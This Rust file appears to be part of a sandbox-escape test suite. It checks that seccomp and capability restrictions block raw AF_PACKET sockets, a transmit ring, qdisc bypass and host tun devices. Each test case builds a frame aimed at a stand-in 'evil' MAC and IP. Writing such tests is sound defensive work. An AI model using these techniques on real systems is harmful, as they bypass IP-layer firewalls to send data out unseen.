//! Below IP: packet sockets and tun devices.

use std::os::fd::OwnedFd;

use nix::errno::Errno;

use crate::escape::case::{Case, Refused, Targets, Unrecorded, by, io_at};
use crate::escape::packet::{self, Fragment};
use crate::escape::sys::{self, Shared};
use crate::harness::network::{EVIL_MAC, EVIL_V4, JOB_V4};

type Result = std::result::Result<(), Refused>;

/// The filter looks at the family before the kernel asks for the capability.
const NO_PACKET: &[Unrecorded] = &[
    by("seccomp", "socket", Errno::EPERM),
    by("capabilities", "socket", Errno::EPERM),
];
const TUN: &[Unrecorded] = &[by("capabilities", "ioctl", Errno::EPERM)];

pub(super) const CASES: &[Case] = &[
    Case::new(
        "packet-raw",
        &["G05"],
        "AF_PACKET, SOCK_RAW: a whole frame, past every IP hook.",
        |targets| {
            let (socket, device) = packet_socket(libc::SOCK_RAW)?;
            sys::sendto(&socket, &frame(targets), 0, &device).map(drop)
        },
    )
    .stopped_by(NO_PACKET),
    Case::new(
        "packet-dgram",
        &["G05"],
        "AF_PACKET, SOCK_DGRAM: the kernel adds the hardware addresses.",
        |targets| {
            let (socket, device) = packet_socket(libc::SOCK_DGRAM)?;
            sys::sendto(&socket, &datagram(targets), 0, &device).map(drop)
        },
    )
    .stopped_by(NO_PACKET),
    Case::new(
        "packet-qdisc-bypass",
        &["G05"],
        "AF_PACKET with PACKET_QDISC_BYPASS: past traffic control as well.",
        |targets| {
            let (socket, device) = packet_socket(libc::SOCK_RAW)?;
            sys::set_int(&socket, libc::SOL_PACKET, libc::PACKET_QDISC_BYPASS, 1)?;
            sys::sendto(&socket, &frame(targets), 0, &device).map(drop)
        },
    )
    .stopped_by(NO_PACKET),
    Case::new(
        "packet-tx-ring",
        &["G05"],
        "AF_PACKET with a transmit ring: frames written to memory, one empty `sendto`.",
        tx_ring,
    )
    .stopped_by(NO_PACKET),
    Case::new(
        "tun-on-host",
        &["G05"],
        "A tun device in the host's network namespace.",
        |_targets| {
            let tun = std::fs::File::options()
                .read(true)
                .write(true)
                .open("/dev/net/tun")
                .map_err(io_at("open"))?;
            let mut request = [0_u8; 40];
            let name = b"escape";
            request
                .iter_mut()
                .zip(name)
                .for_each(|(to, byte)| *to = *byte);
            // IFF_TUN | IFF_NO_PI
            request
                .iter_mut()
                .skip(16)
                .zip([0x01, 0x10])
                .for_each(|(to, byte)| *to = byte);
            sys::ioctl(&OwnedFd::from(tun), 0x4004_54ca, &mut request)
        },
    )
    .done()
    .stopped_by(TUN),
];

/// A packet socket that sends nothing by itself and hears nothing, and the attacker's cable.
fn packet_socket(kind: i32) -> std::result::Result<(OwnedFd, Vec<u8>), Refused> {
    let socket = sys::socket(libc::AF_PACKET, kind, 0)?;
    let mut address = vec![17, 0];
    address.extend(0x0800_u16.to_be_bytes());
    address.extend(sys::interface("evil")?.to_ne_bytes());
    address.extend([0, 0, 0, 6]);
    address.extend(EVIL_MAC);
    address.extend([0, 0]);
    Ok((socket, address))
}

fn datagram(targets: &Targets) -> Vec<u8> {
    let data = packet::udp(targets.port(), 8080, targets.tag().as_bytes());
    packet::ipv4(JOB_V4, EVIL_V4, 17, Fragment::default(), &data)
}

fn frame(targets: &Targets) -> Vec<u8> {
    packet::ethernet(EVIL_MAC, [2, 0, 0, 0, 1, 1], 0x0800, &datagram(targets))
}

fn tx_ring(targets: &Targets) -> Result {
    const PAGE: u32 = 4096;
    // Where the data of a frame begins: after tpacket_hdr (32 bytes) and alignment.
    const DATA: usize = 32;
    const SEND_REQUEST: u32 = 1;
    let (socket, device) = packet_socket(libc::SOCK_RAW)?;
    let ring = [PAGE, 1, PAGE, 1].map(u32::to_ne_bytes).concat();
    sys::set(&socket, libc::SOL_PACKET, libc::PACKET_TX_RING, &ring)?;
    let memory = Shared::new(&socket, 4096, 0)?;
    let frame = frame(targets);
    let length = u32::try_from(frame.len()).unwrap_or_default();
    memory.put(DATA, &frame);
    memory.put(8, &length.to_ne_bytes());
    memory.put(12, &length.to_ne_bytes());
    memory.put(0, &u64::from(SEND_REQUEST).to_ne_bytes());
    sys::sendto(&socket, &[], 0, &device).map(drop)
}
